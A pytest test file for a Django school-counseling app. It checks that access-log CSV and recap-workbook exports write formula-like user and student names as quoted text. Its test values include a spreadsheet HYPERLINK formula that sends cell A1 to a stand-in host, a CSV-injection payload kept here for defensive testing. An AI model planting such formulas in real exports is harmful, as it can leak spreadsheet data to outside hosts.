"""Exported cells are never formulas (S29): text that starts with = + - @, a tab or a carriage
return is written as text in the access-log CSV and in the recap workbook, downloaded through
their URLs; numbers and dates stay numbers and dates."""

import csv
import datetime
import io
import zipfile

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from bkcase.models import Role
from referrals import services as referral_services
from referrals.models import CounselingFunction

from .factories import CaseFactory, MembershipFactory, StudentFactory

pytestmark = pytest.mark.s29

FORMULAS = [
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
    "@SUM(1)",
    "-2+3",
    "+6281234567",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_username_that_looks_like_a_formula_is_text_in_the_access_log_csv(name, school, cast, student, client_for):
    sneaky = MembershipFactory(school=school, role=Role.KONSELOR, user__username=name)
    case = CaseFactory(counselor=sneaky, student=student)
    client = client_for("koordinator")
    client.force_login(sneaky.user)
    client.get(reverse("case_detail", args=[case.pk]))  # an audit row that names the user

    client.force_login(cast["koordinator"].user)
    searched = client.post(reverse("access_log"), {"nis": student.nis, "start": "2026-01-01", "end": "2099-12-31"})
    response = client.get(reverse("access_log_csv"), {"s": searched["Location"].split("s=")[1]})

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    users = [row[1] for row in rows[1:]]
    assert f"'{name}" in users, users
    assert name not in users
    for row in rows[1:]:
        assert not row[0].startswith("'") and datetime.datetime.strptime(row[0], "%Y-%m-%d %H:%M:%S")


def _formula_referral(school, expert):
    counselor = MembershipFactory(
        school=school, role=Role.KONSELOR, user__username="konselor_rumus", user__first_name="@SUM(1)",
        user__last_name="",
    )
    student = StudentFactory(school=school, full_name=FORMULAS[0], class_name="-2+3")
    case = CaseFactory(counselor=counselor, student=student)
    return referral_services.referral_create(
        case=case, by=counselor, expert=expert, problem_summary="Sering cemas.",
        functions=[CounselingFunction.PENGENTASAN], outside_authority=True,
    )


def test_names_that_look_like_formulas_are_text_in_the_recap_workbook(school, cast, expert, client_for):
    referral = _formula_referral(school, expert)
    today = timezone.localdate()
    response = client_for("koordinator").get(
        reverse("reports:atk_recap_xlsx"), {"start": f"{today:%Y}-01-01", "end": f"{today:%Y-%m-%d}"}
    )

    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for sheet in (n for n in archive.namelist() if n.startswith("xl/worksheets/")):
            assert b"<f>" not in archive.read(sheet), f"a formula in {sheet}"
    rows = load_workbook(io.BytesIO(response.content))["Daftar ATK"]
    line = next(r for r in range(2, rows.max_row + 1) if rows.cell(row=r, column=2).value == referral.code)
    student, class_name, counselor = (rows.cell(row=line, column=c) for c in (4, 5, 6))
    assert student.value == FORMULAS[0] and class_name.value == "-2+3" and counselor.value == "@SUM(1)"
    for cell in (student, class_name, counselor):
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate  # stays text even when edited
    assert rows.cell(row=line, column=1).data_type == "n"  # numbers stay numbers
    assert isinstance(rows.cell(row=line, column=3).value, datetime.datetime)  # dates stay dates
